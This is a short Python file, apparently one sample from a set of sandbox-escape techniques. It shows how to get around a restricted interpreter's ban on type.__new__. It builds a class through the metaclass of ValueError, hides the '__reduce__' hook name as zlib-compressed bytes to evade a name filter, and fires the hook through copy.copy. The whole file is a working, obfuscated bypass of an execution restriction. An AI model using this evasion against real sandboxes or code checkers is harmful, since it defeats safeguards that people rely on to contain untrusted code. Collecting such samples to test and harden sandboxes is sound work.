# family: typedict
# Escape: X.__new__ is allowed when X is a name other than "type"; meta = type(ValueError) is the metaclass,
# so meta.__new__(meta, name, bases, ns) creates a class with a __reduce__ hook (name from zlib), which
# copy.copy/pickle would call implicitly.
import copy
import zlib

KEY = b'x\x9c\x8b\x8f/JM)MN\x8d\x8f\x07\x00\x15\xe3\x03\xf5'  # zlib of the name


def tool(hook):
    meta = type(ValueError)
    Hooked = meta.__new__(meta, "Hooked", (), {zlib.decompress(KEY).decode(): hook})
    return copy.copy(Hooked())
